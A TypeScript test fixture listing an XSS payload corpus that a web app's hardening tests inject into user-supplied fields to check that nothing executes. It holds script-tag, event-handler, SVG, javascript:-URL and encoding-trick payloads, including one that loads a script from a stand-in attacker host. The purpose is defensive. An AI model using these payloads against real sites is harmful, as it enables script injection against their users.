/**
 * The XSS corpus (issue 22): the usual payloads, put through every text that comes from a member or
 * the API (nicknames, descriptions, messages, notice titles, tags, plan texts, paywall legal lines,
 * push payloads) by the demo API's corpus switch (POST /__demo/xss, src/mocks/db/xss.ts), and checked
 * in jest (src/test/hardening/xss.test.tsx) and in the browser (e2e/hardening-xss.spec.ts).
 *
 * Every executable payload sets window.__xss (XSS_FLAG) and calls alert(): a test asserts the flag is
 * never set and no dialog ever opens. Plain data (no imports) so jest, the demo API and e2e share it.
 */
export const XSS_FLAG = '__xss';

/** A long string without a single break opportunity (a layout must wrap or ellipsise it). */
export const LONG_UNBROKEN = `Ana${'a'.repeat(300)}`;

/** The right-to-left override: 'Ana\u202Egpj.exe' shows as 'Anaexe.jpg'; it must not flip the layout around it. */
export const RLO = '\u202E';

export const XSS_CORPUS: readonly string[] = [
  // Script tags, closing the element a server might have put the text in first.
  '<script>window.__xss=1;alert(1)</script>',
  '</textarea></title></style><script>window.__xss=2;alert(2)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  // Event-handler attributes, breaking out of a quoted attribute first.
  '<img src=x onerror="window.__xss=3;alert(3)">',
  '"><img src=x onerror=window.__xss=4;alert(4)>',
  "'><body onload=window.__xss=5>",
  '<details open ontoggle="window.__xss=6;alert(6)">',
  '<input autofocus onfocus="window.__xss=7">',
  // SVG and MathML.
  '<svg onload="window.__xss=8;alert(8)"></svg>',
  '<svg><script>window.__xss=9</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=10>',
  // URLs that would run or replace the page if they became a link or an image.
  'javascript:window.__xss=11;alert(11)',
  'JaVaScRiPt:window.__xss=12',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTM8L3NjcmlwdD4=',
  '<a href="javascript:window.__xss=14">clic acá</a>',
  '<iframe src="javascript:window.__xss=15"></iframe>',
  // Entity and encoding tricks (they must show literally, never decoded into markup).
  '&lt;script&gt;window.__xss=16&lt;/script&gt;',
  '&#x3C;img src=x onerror=window.__xss=17&#x3E;',
  '%3Cscript%3Ewindow.__xss=18%3C/script%3E',
  '\\u003cimg src=x onerror=window.__xss=19\\u003e',
  // Template and prototype tricks.
  "{{constructor.constructor('window.__xss=20')()}}",
  '${window.__xss=21}',
  '__proto__',
  // CSS that would hide or cover the page if injected.
  '<style>body{display:none}</style>',
  // Unicode direction overrides, zero-width characters, combining marks.
  `Ana${RLO}gpj.exe`,
  `\u2066\u202Bמרים\u202C\u2069 <b>negrita</b>`,
  'Lu\u200Bcía\u200D\uFEFF',
  'Z\u0336\u0321a\u0337l\u0338g\u0335o\u0334',
  // Very long unbroken text.
  LONG_UNBROKEN,
];

/** The payloads that would execute if they were ever parsed as HTML or followed as a URL. */
export const XSS_EXECUTABLE: readonly string[] = XSS_CORPUS.filter((s) => /__xss/.test(s));
